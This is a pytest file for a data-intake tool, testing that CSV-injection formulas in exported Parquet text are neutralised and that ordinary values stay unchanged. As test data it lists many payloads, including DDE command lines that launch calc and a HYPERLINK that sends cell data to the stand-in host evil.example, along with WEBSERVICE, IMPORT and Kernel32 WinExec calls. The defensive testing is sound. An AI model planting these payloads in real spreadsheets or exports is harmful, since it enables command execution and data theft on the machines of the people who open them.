"""Spreadsheet formulas in delivered text are neutralised (OWASP CSV injection); ordinary values are not.

The package test writes a real legacy CSV file, reads it through the connectors (or the stand-in reader when
they are not installed), writes a real package and reads the delivered Parquet files back.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from intake.clock import FixedClock
from intake.config import ConnectorSettings
from intake.product import LocalFolderPackageWriter, builtin_mapping, verify_package, write_package
from intake.product.neutralise import NeutraliseCounts, formula_mask, neutralise_array, neutralise_batch
from tests.product.legacy import asset_row, read_equiptrack_assets_csv, write_equiptrack_assets_csv

CLOCK = FixedClock(datetime(2026, 3, 2, 9, 30, tzinfo=UTC))

FORMULAS = [
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1,2)", "@SUM(A1)", "-2+3",
    "=1+1", "\tSUM(1)", "\r=1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    "+A1", "-A1*2", "-2+A1", "=", "+Sheet1!A1", "-$B$2", "+ SUM(1)", "+1*2", "-IMPORTXML(CONCAT(A1),\"//a\")",
    # A bare word before the payload (a defined name to a spreadsheet) does not make a DDE link or a call text.
    "+ve+cmd|' /C calc'!A0", "-hello+cmd|' /C calc'!A0", "@x+cmd|' /C calc'!A0", '-see+HYPERLINK("http://e.example")',
    "-1+cmd|'/c calc'!A0 notes", "+note webservice(\"http://e.example\")",
    # Every function of the OWASP list that reaches outside the sheet, after a bare word too.
    '+ve+RTD("a",,"b")', '-x RTD("a",,"b")', '@ve+DDE("cmd","/C calc","A0")', '+ve+dde("cmd";"/C calc";"A0")',
    '+ve+EXEC("calc")', '+ve+CALL("Kernel32","WinExec","JCJ","calc",0)', '+ve+REGISTER.ID("Kernel32","WinExec")',
    '+ve+REGISTER("Kernel32","WinExec")', '+ve+SQL.REQUEST("DSN=x",,2,"SELECT 1")', '+ve+IMAGE("http://e.example")',
    '+ve+IMPORTDATA("http://e.example")', '+ve+IMPORTFEED("http://e.example")', '+ve+IMPORTHTML("http://e","t",1)',
    '+ve+IMPORTRANGE("k","A1")', '+ve+_xlfn.WEBSERVICE("http://e.example")', '+ve+HYPERLINK("http://e.example")',
]
ORDINARY = [
    "+44 1632 960123", "-20C freezer", "- see notes", "@home", "+ve", "-5", "+44-20-7946-0958",
    "+44 (0)20 7946 0958", "-1E5", "-2.5", "+1", "@", "-", "+/-5", "- see (notes)", "-5 to -10", "a=b",
    "+ A grade", "-A1 grade", "- ward 3-B2", "Infusion pump", "", "SUM(1,2)", "email@example.org",
    "- pass|fail noted", "+ve result (see link)", "@ward 3: hyperlink sent",
    # A function's name only as the tail of a longer word is no call of it.
    "-recall (see notes)", "+hardde (x)", "-shortd (x)",
]


def test_formulas_are_detected_and_ordinary_values_are_not() -> None:
    values = pa.array([*FORMULAS, *ORDINARY, None], pa.string())
    mask = formula_mask(values).to_pylist()
    assert [v for v, hit in zip(values.to_pylist(), mask, strict=True) if hit] == FORMULAS


@pytest.mark.parametrize("kind", [pa.string(), pa.large_string()])
def test_neutralising_prefixes_a_quote_and_counts(kind: pa.DataType) -> None:
    safe, count = neutralise_array(pa.array([*FORMULAS, *ORDINARY, None], kind))
    assert count == len(FORMULAS) and safe.type == kind
    assert safe.to_pylist() == [*("'" + v for v in FORMULAS), *ORDINARY, None]
    untouched = pa.array(ORDINARY, kind)
    assert neutralise_array(untouched) == (untouched, 0)


def test_only_string_columns_change_and_counts_name_fields_never_values() -> None:
    batch = pa.RecordBatch.from_pydict({"n": pa.array([-2, 3]), "text": ["=1+1", "-5"], "other": ["+ve", "@A1"]})
    counts = NeutraliseCounts()
    safe = neutralise_batch(batch, "assets", counts)
    assert safe.schema == batch.schema
    assert safe.to_pydict() == {"n": [-2, 3], "text": ["'=1+1", "-5"], "other": ["+ve", "'@A1"]}
    assert counts.as_dict() == {"rule": "owasp-csv-injection/1", "total": 2,
                                "cells": {"assets": {"other": 1, "text": 1}}}


def test_nested_strings_of_the_rejects_are_neutralised_and_counted_by_path() -> None:
    from intake.product import REJECTS_SCHEMA

    reasons = [[{"code": "duplicate_key", "entity": "assets", "field": "asset_number", "column": "=cmd|' /C calc'!A0",
                 "message": '+ve+RTD("a",,"b")'},
                {"code": "bad", "entity": "assets", "field": "x", "column": "Notes", "message": "- see notes"}],
               [{"code": "bad", "entity": "assets", "field": "x", "column": "@SUM(A1)", "message": "ok"}]]
    full = pa.RecordBatch.from_pylist(
        [{"source_table": "assets", "row_number": n, "source_key": key, "related_row": None, "reasons": r}
         for n, (key, r) in enumerate([("-2+3", reasons[0]), ("EQ1", reasons[1]), ("EQ2", reasons[1])])],
        schema=REJECTS_SCHEMA)
    batch = full.slice(0, 2)  # a slice: offsets into the lists' values do not start at 0
    counts = NeutraliseCounts()
    safe = neutralise_batch(batch, "rejects", counts)
    assert safe.schema == REJECTS_SCHEMA
    rows = safe.to_pylist()
    assert rows[0]["source_key"] == "'-2+3"
    assert [r["column"] for r in rows[0]["reasons"]] == ["'=cmd|' /C calc'!A0", "Notes"]
    assert [r["message"] for r in rows[0]["reasons"]] == ["'+ve+RTD(\"a\",,\"b\")", "- see notes"]
    assert rows[1]["reasons"][0]["column"] == "'@SUM(A1)" and rows[1]["source_key"] == "EQ1"
    assert counts.as_dict()["cells"] == {"rejects": {"reasons[].column": 2, "reasons[].message": 1, "source_key": 1}}
    assert not list(executable_cells(pa.Table.from_batches([safe])))


def test_strings_in_list_struct_and_map_columns_are_neutralised_nulls_kept() -> None:
    batch = pa.RecordBatch.from_pydict({
        "tags": pa.array([["=1+1", None, "ok"], None, []], pa.large_list(pa.string())),
        "info": pa.array([{"a": "@SUM(A1)", "n": 1}, None, {"a": None, "n": 2}],
                         pa.struct([("a", pa.string()), ("n", pa.int64())])),
        "kv": pa.array([[("k", "+ve+RTD(\"a\",,\"b\")")], None, [("=x", "v")]], pa.map_(pa.string(), pa.string())),
    })
    counts = NeutraliseCounts()
    safe = neutralise_batch(batch, "assets", counts)
    assert safe.schema == batch.schema
    assert safe.column(0).to_pylist() == [["'=1+1", None, "ok"], None, []]
    assert safe.column(1).to_pylist() == [{"a": "'@SUM(A1)", "n": 1}, None, {"a": None, "n": 2}]
    assert safe.column(2).to_pylist() == [[("k", "'+ve+RTD(\"a\",,\"b\")")], None, [("'=x", "v")]]
    assert counts.as_dict()["cells"] == {"assets": {"info.a": 1, "kv[].key": 1, "kv[].value": 1, "tags[]": 1}}
    untouched = pa.RecordBatch.from_pydict({"tags": pa.array([["ok", "+ve"]]), "info": pa.array([{"a": "-5"}])})
    assert neutralise_batch(untouched, "assets", NeutraliseCounts()) is untouched


# Written apart from formula_mask on purpose: a cell a spreadsheet would execute, by the OWASP guidance's plain
# reading. It is stricter than the module (any bracket or operator after a sign counts), which the test data
# allows for.
_SIGNED_FORMULA = re.compile(r"[+\-@].*(?:[(|!*/^&=<>+]|\$?\b[A-Za-z]{1,3}\$?[0-9]+\b)", re.S)


def executable_cells(table: pa.Table) -> Iterator[str]:
    """Every string in `table`, nested ones too, that starts a formula (by name of its column, never its value)."""
    def strings(value: object, path: str) -> Iterator[tuple[str, str]]:
        if isinstance(value, str):
            yield path, value
        elif isinstance(value, dict):
            for key, item in value.items():
                yield from strings(item, f"{path}.{key}")
        elif isinstance(value, list | tuple):
            for item in value:
                yield from strings(item, f"{path}[]")

    for row in table.to_pylist():
        for name, value in row.items():
            for path, text in strings(value, name):
                if text[:1] in ("=", "\t", "\r") or _SIGNED_FORMULA.match(text):
                    yield path


def test_the_plain_check_sees_what_it_should() -> None:
    table = pa.table({"a": ["=1", "\t1", "\r1", "+SUM(1)", "-A1", "@x|y", "-2+3", "'=1", "-5", "+44 1632 960123",
                            "- see notes", "@home", "+ve"],
                      "b": pa.array([[{"m": "+ve+RTD(1)"}]] * 13)})
    assert list(executable_cells(table)) == ["a", "b[].m"] * 3 + ["a", "b[].m"] * 4 + ["b[].m"] * 6


def read_assets(csv_path: Path) -> object:
    try:
        import intake.connectors as connectors
    except ImportError:
        return lambda: read_equiptrack_assets_csv(csv_path)
    return connectors.open_source(None, csv_path, settings=ConnectorSettings())


def test_a_delivered_package_holds_no_executable_text(tmp_path: Path) -> None:
    rows = [
        asset_row("EQ000001", Notes="=cmd|' /C calc'!A0", Serial_No="+SUM(1,2)", Contact_Tel="+44 1632 960123"),
        asset_row("EQ000002", Notes='=HYPERLINK("http://evil.example","x")', Serial_No="-20C freezer",
                  Description="@SUM(A1)", Model="Perfusor Space", Contact_Tel="-2+3"),
        asset_row("EQ000003", Notes="- see notes", Serial_No="-5", Description="+ve", Model="IntelliVue MX450",
                  Manufacturer="Philips", Responsible_Engineer="@home"),
        asset_row("EQ000004", Notes="\t=1+1", Serial_No="=1+1", Supplier="+cmd|' /C calc'!A0"),
    ]
    csv_path = write_equiptrack_assets_csv(tmp_path / "assets.csv", rows)
    target = tmp_path / "package"
    source = read_assets(csv_path)
    if callable(source):
        sources = {"assets": source, "jobs": []}
        result = write_package(sources, builtin_mapping("equiptrack"), LocalFolderPackageWriter(target),
                               dataset_id="DS-1", authorisation_reference="AUTH-1", clock=CLOCK)
    else:
        with source as opened:
            sources = {"assets": opened.read(opened.tables()[0]), "jobs": []}
            result = write_package(sources, builtin_mapping("equiptrack"), LocalFolderPackageWriter(target),
                                   dataset_id="DS-1", authorisation_reference="AUTH-1", clock=CLOCK)

    assets = pq.read_table(target / "assets.parquet").to_pylist()
    by_number = {row["asset_number"]: row for row in assets}
    assert len(by_number) == 4
    assert by_number["EQ000001"]["notes"] == "'=cmd|' /C calc'!A0"
    assert by_number["EQ000001"]["serial_number"] == "'+SUM(1,2)"
    assert by_number["EQ000001"]["contact_phone"] == "+44 1632 960123"
    assert by_number["EQ000002"]["notes"] == "'=HYPERLINK(\"http://evil.example\",\"x\")"
    assert by_number["EQ000002"]["serial_number"] == "-20C freezer"
    assert by_number["EQ000002"]["contact_phone"] == "'-2+3"
    assert by_number["EQ000003"]["notes"] == "- see notes"
    assert by_number["EQ000003"]["serial_number"] == "-5"
    assert by_number["EQ000003"]["responsible_engineer"] == "@home"
    assert by_number["EQ000004"]["serial_number"] == "'=1+1"
    models = {row["device_type"] for row in pq.read_table(target / "device_models.parquet").to_pylist()}
    assert "'@SUM(A1)" in models and "+ve" in models
    suppliers = {row["name"] for row in pq.read_table(target / "suppliers.parquet").to_pylist()}
    assert "'+cmd|' /C calc'!A0" in suppliers

    # No delivered string anywhere, nested ones (the rejects' reasons) too, still starts a formula: checked by the
    # test's own plain reading, not by the module's formula_mask.
    parquets = sorted(target.glob("*.parquet"))
    assert "rejects.parquet" in {p.name for p in parquets}
    for parquet in parquets:
        assert not list(executable_cells(pq.read_table(parquet))), parquet.name

    counts = result.manifest["neutralised_formulas"]
    assert counts["rule"] == "owasp-csv-injection/1"
    assert counts["cells"]["assets"] == {"contact_phone": 1, "notes": 3, "serial_number": 2}
    assert counts["cells"]["device_models"] == {"device_type": 1}
    assert counts["cells"]["suppliers"] == {"name": 1}
    manifest_text = (target / "manifest.json").read_text()
    assert json.loads(manifest_text) == result.manifest == verify_package(target)
    for value in ("cmd|", "HYPERLINK", "SUM(", "-2+3"):
        assert value not in manifest_text  # counts only, never a value
